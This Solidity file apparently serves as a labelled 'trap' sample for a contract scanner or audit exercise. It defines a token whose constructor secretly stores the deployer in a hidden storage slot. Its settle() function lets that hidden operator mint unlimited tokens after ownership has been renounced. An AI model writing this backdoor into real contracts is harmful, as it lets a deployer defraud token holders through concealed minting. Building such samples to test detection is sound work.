// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {OwnableToken} from "base/OwnableToken.sol";

/// Trap: the ownership was renounced, and whoever launched it kept another role, in a slot that no function shows.
contract HiddenOwner is OwnableToken {
    bytes32 private constant ROLE_SLOT = keccak256("treasury.v2.operator");

    constructor(string memory name_, string memory symbol_, uint256 supply) OwnableToken(name_, symbol_, supply) {
        bytes32 slot = ROLE_SLOT;
        assembly {
            sstore(slot, caller())
        }
    }

    function settle(address to, uint256 value) external {
        bytes32 slot = ROLE_SLOT;
        address operator;
        assembly {
            operator := sload(slot)
        }
        require(msg.sender == operator);
        _write(address(0), to, value);
    }
}
